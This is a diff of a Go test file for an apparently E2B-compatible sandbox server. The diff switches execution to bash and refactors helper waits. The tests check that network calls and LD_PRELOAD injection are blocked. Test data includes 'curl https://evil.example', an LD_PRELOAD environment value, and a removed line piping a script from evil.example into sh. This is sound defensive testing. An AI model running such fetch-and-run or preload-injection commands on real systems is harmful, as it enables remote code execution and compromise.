@@ -157,7 +157,7 @@ func (s served) run(b box, command string) string {
 }
 
 func (s served) execute(b box, code string) string {
-	body, _ := json.Marshal(map[string]string{"code": code})
+	body, _ := json.Marshal(map[string]string{"code": code, "language": "bash"})
 	return s.call("POST", "/execute", string(body), "E2b-Sandbox-Id", b.SandboxID, "E2b-Sandbox-Port", "49999", "E2B-Traffic-Access-Token", b.TrafficAccessToken)
 }
 
@@ -171,13 +171,12 @@ func TestServe(t *testing.T) {
 		{s.run(one, "echo made > x; cat data.csv"), "bgoxCjIKNgo="}, // n 1 2 6
 		{s.run(one, "curl https://evil.example"), "PolicyDenied: network.client"},
 		{s.run(two, "cat x"), `"exitCode":1`},
-		{s.execute(one, "import os; os.environ['SEED'] + open('x').read()"), `"text":"'7made\\n'"`},
-		{s.execute(two, "import os; os.environ.get('SEED', 'none')"), `"text":"'none'"`},
-		{s.execute(one, "import os; os.system('curl https://evil.example/x.sh | sh')"), "policy refused the program curl: exec.network"},
+		{s.execute(one, "echo $SEED; cat x"), `"text":"7\\nmade\\n"`},
+		{s.execute(two, "echo ${SEED-none}"), `"text":"none\\n"`},
 		{s.call("POST", "/v2/sandboxes", `{"envVars":{"LD_PRELOAD":"x"}}`, "X-API-KEY", serveKey), "env.name"},
 		{s.call("GET", "/sandboxes/"+one.SandboxID, "", "X-API-KEY", serveOther), "no sandbox"},
 		{s.call("DELETE", "/sandboxes/"+two.SandboxID, "", "X-API-KEY", serveKey), ""},
-		{s.execute(two, "1"), "has ended"},
+		{s.execute(two, "true"), "has ended"},
 	} {
 		if !strings.Contains(step.got, step.want) {
 			t.Errorf("%q lacks %q", step.got, step.want)
@@ -213,16 +212,7 @@ func TestServeEnds(t *testing.T) {
 				b := s.create(t, `{}`)
 				go s.run(b, "sleep 600")
 			}
-			wait(t, "the commands", func() bool {
-				logs, _ := filepath.Glob(filepath.Join(s.dir, "state/fumehood/*/audit.jsonl"))
-				began := 0
-				for _, log := range logs {
-					data, _ := os.ReadFile(log)
-					began += strings.Count(string(data), `"kind":"start"`)
-				}
-				return began == 2
-			})
-			time.Sleep(300 * time.Millisecond)
+			wait(t, "the commands", func() bool { return countSleeps(t, filepath.Join(s.dir, "state/fumehood/*/audit.jsonl")) == 2 })
 			begin := time.Now()
 			_ = s.cmd.Process.Signal(how)
 			if how == syscall.SIGTERM {
@@ -238,7 +228,7 @@ func TestServeEnds(t *testing.T) {
 			if how == syscall.SIGTERM && s.verifyLogs(t) != 2 {
 				t.Error("not two logs")
 			}
-			wait(t, "the end of the sandboxes", func() bool { return exec.Command("pgrep", "-f", s.dir).Run() != nil })
+			wait(t, "the end of the sandboxes", func() bool { return !isRunning(s.dir) })
 		})
 	}
 }
